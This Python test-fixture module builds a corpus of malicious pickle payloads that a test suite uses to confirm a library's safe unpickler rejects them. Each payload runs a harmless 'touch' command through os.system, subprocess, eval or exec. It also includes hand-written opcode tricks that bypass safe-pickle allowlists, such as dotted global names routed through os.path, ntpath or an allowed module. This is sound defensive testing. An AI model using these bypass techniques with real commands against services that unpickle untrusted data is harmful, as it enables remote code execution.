"""A corpus of hostile pickles (issue 11, defect 5 and the safe-pickle
bypass of defect 8). Each one, when loaded by pickle.loads, creates the
marker file it was built for; test_malicious_pickles.py checks both that it
does (so the corpus is really hostile) and that dictsqlite never lets it.

Building a payload runs nothing: the __reduce__ helpers only describe calls."""
import builtins
import codecs
import functools
import importlib
import operator
import os
import pickle
import posix
import subprocess


class Call:
    """Pickles as func(*args): nested Calls pickle as nested REDUCEs, so the
    result of one call can be the callable or an argument of the next."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *a):  # pickle requires the callable to be callable
        raise AssertionError("never called while building")


def _touch_cmd(marker):
    return f"touch '{marker}'"


def _open_expr(marker):
    return f"open({marker!r}, 'w').close()"


def _su(s):
    """SHORT_BINUNICODE (protocol 4+)."""
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def _u(s):
    """BINUNICODE (protocol 1+)."""
    b = s.encode()
    return b"X" + len(b).to_bytes(4, "little") + b


def _glob(module, name):
    """GLOBAL: module and name inline."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _framed4(body):
    """PROTO 4 and one FRAME holding body, as pickle.dumps writes it."""
    return b"\x80\x04\x95" + len(body).to_bytes(8, "little") + body


def payloads(marker_dir):
    """[(name, bytes, marker path)]: each payload creates its own marker."""
    out = []

    def add(name, data):
        out.append((name, data, os.path.join(marker_dir, name)))

    def m(name):
        return os.path.join(marker_dir, name)

    for proto in range(6):
        add(f"os_system_p{proto}",
            pickle.dumps(Call(os.system, _touch_cmd(m(f"os_system_p{proto}"))), proto))
    add("posix_system", pickle.dumps(Call(posix.system, _touch_cmd(m("posix_system"))), 2))
    add("subprocess_call", pickle.dumps(Call(subprocess.call, ["touch", m("subprocess_call")]), 4))
    add("subprocess_popen", pickle.dumps(Call(subprocess.Popen, ["touch", m("subprocess_popen")]), 5))
    add("subprocess_check_output",
        pickle.dumps(Call(subprocess.check_output, ["touch", m("subprocess_check_output")]), 3))
    add("builtins_eval", pickle.dumps(Call(builtins.eval, _open_expr(m("builtins_eval"))), 2))
    add("builtins_exec", pickle.dumps(Call(builtins.exec, _open_expr(m("builtins_exec"))), 4))
    add("import_getattr_chain",
        pickle.dumps(Call(Call(builtins.getattr, Call(builtins.__import__, "os"), "system"),
                          _touch_cmd(m("import_getattr_chain"))), 2))
    add("importlib_import_module",
        pickle.dumps(Call(Call(getattr, Call(importlib.import_module, "os"), "system"),
                          _touch_cmd(m("importlib_import_module"))), 4))
    add("functools_partial",
        pickle.dumps(Call(functools.partial(os.system, _touch_cmd(m("functools_partial")))), 4))
    add("operator_attrgetter",
        pickle.dumps(Call(Call(operator.attrgetter("system"), Call(builtins.__import__, "os")),
                          _touch_cmd(m("operator_attrgetter"))), 3))
    add("operator_methodcaller",
        pickle.dumps(Call(operator.methodcaller("system", _touch_cmd(m("operator_methodcaller"))),
                          Call(builtins.__import__, "os")), 2))
    add("codecs_rot13_eval",
        pickle.dumps(Call(builtins.eval, Call(codecs.decode,
                                              codecs.encode(_open_expr(m("codecs_rot13_eval")),
                                                            "rot13"), "rot13")), 2))
    # protocol 0 INST and protocol 1 OBJ opcodes, written by hand
    cmd = _touch_cmd(m("inst_opcode")).encode()
    add("inst_opcode", b"(S'" + cmd + b"'\nios\nsystem\n.")
    cmd = _touch_cmd(m("obj_opcode")).encode()
    add("obj_opcode", b"(cos\nsystem\nS'" + cmd + b"'\no.")
    # STACK_GLOBAL with a dotted name reached through another module
    # (os.path is posixpath, whose "os" is os)
    cmd = _touch_cmd(m("dotted_stack_global")).encode()
    add("dotted_stack_global",
        b"\x80\x04\x95" + (0).to_bytes(8, "little") + b"\x8c\x02os\x8c\x0epath.os.system\x93"
        + b"\x8c" + bytes([len(cmd)]) + cmd + b"\x85R.")
    # BUILD/__setstate__: the first BUILD puts os.system into an instance's
    # __dict__ as __setstate__, the second calls it with the "state" (cmd)
    cmd = _touch_cmd(m("build_setstate"))
    add("build_setstate", b"\x80\x02" + _glob("types", "SimpleNamespace") + b")R}"
        + _u("__setstate__") + _glob("os", "system") + b"sb" + _u(cmd) + b"b.")
    # copyreg._reconstructor (on pickle's usual path for plain objects) with
    # cls = base = subprocess.Popen calls Popen.__init__(obj, argv)
    argv = b"](" + _u("touch") + _u(m("copyreg_reconstructor")) + b"e"
    add("copyreg_reconstructor", b"\x80\x02" + _glob("copyreg", "_reconstructor")
        + _glob("subprocess", "Popen") + _glob("subprocess", "Popen") + argv + b"\x87R.")
    # STACK_GLOBAL fed from the memo, with a decoy ("int") pushed and popped
    # in between: the names never sit next to the opcode
    cmd = _touch_cmd(m("memo_stack_global"))
    add("memo_stack_global", _framed4(_su("os") + b"\x94" + _su("int") + b"0"
                                      + _su("system") + b"\x94" + b"00"
                                      + b"h\x00h\x01\x93" + _su(cmd) + b"\x85R."))
    # the "nt" route without Windows: ntpath imports os, so the dotted name
    # ntpath / os.system reaches os.system on every platform
    cmd = _touch_cmd(m("ntpath_dotted"))
    add("ntpath_dotted", _framed4(_su("ntpath") + _su("os.system") + b"\x93" + _su(cmd)
                                  + b"\x85R."))
    # pickle.loads of an inner hostile pickle: a reduce whose argument is one
    inner = pickle.dumps(Call(os.system, _touch_cmd(m("nested_pickle_loads"))), 2)
    add("nested_pickle_loads", pickle.dumps(Call(pickle.loads, inner), 3))
    # nested inside containers
    add("nested_in_list",
        pickle.dumps([1, "a", Call(os.system, _touch_cmd(m("nested_in_list")))], 2))
    add("nested_in_dict",
        pickle.dumps({"ok": [1, 2], "x": (Call(os.system, _touch_cmd(m("nested_in_dict"))),)}, 5))
    return out


def myapp_bypass(marker):
    """Protocol 4: STACK_GLOBAL ('myapp', 'subprocess.Popen'), where the
    allowed module myapp merely imports subprocess (issue 11, defect 8)."""
    args = pickle.dumps(["touch", marker], 4)[11:-1]  # the list, without PROTO/FRAME/STOP
    body = (b"\x8c\x05myapp\x8c\x10subprocess.Popen\x93" + args + b"\x85R.")
    return b"\x80\x04\x95" + len(body).to_bytes(8, "little") + body
